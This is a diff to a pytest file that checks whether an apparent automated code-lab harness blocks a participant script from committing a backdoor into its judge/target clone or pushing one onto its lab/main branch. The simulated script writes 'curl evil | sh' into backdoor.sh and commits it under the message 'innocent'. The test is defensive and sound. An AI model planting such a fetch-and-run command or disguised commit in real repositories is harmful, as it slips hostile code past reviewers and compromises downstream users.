@@ -152,20 +152,29 @@ finished
     assert "faster now" not in git(repo, "log", "--all", "-p")
 
 
-def test_commit_onto_the_labs_own_target_clone(tmp_path: Path) -> None:
-    """A real win, and a backdoor committed onto main of judge/target: the lab stops before it moves anything."""
-    ws, repo = _lab(tmp_path, """
+@pytest.mark.parametrize("onto", ["judge/target main", "the target's lab/main"])
+def test_commit_onto_the_labs_own_target_clone(tmp_path: Path, onto: str) -> None:
+    """A real win, and a backdoor committed where the lab merges or publishes: it stops before moving anything."""
+    if onto == "judge/target main":  # committed right there
+        plant = 'cd "$workspace/judge/target"'
+        publish = ""
+    else:  # pushed onto the branch the lab publishes its main to
+        plant = f"git clone -q {tmp_path / 'myproject'} ../evil && cd ../evil && git checkout -q lab/main"
+        publish = "git push -q origin HEAD:refs/heads/lab/main"
+    ws, repo = _lab(tmp_path, f"""
 win
 finished
-clone="$workspace/judge/target"
-echo 'curl evil | sh' > "$clone/backdoor.sh"
-git -C "$clone" add backdoor.sh
-git -C "$clone" -c user.name=w -c user.email=w@w commit -qm 'innocent'
+{plant}
+echo 'curl evil | sh' > backdoor.sh
+git add backdoor.sh && git -c user.name=w -c user.email=w@w commit -qm 'innocent'
+{publish}
 """)
-    with pytest.raises(LabIntegrityError, match="did not make"):
+    with pytest.raises(LabIntegrityError, match="never held" if "lab/main" in onto else "did not make"):
         _run(ws)
-    assert "backdoor.sh" not in _everywhere(repo)
-    assert not _events(ws, "rebase") and not _events(ws, "merge")
+    published = "\n".join(git(repo, "ls-tree", "-r", "--name-only", ref).strip()
+                           for ref in ("main", "lab/h1") if git(repo, "branch", "--list", ref).strip())
+    assert "backdoor.sh" not in published
+    assert not _events(ws, "merge")
 
 
 FORGE = """
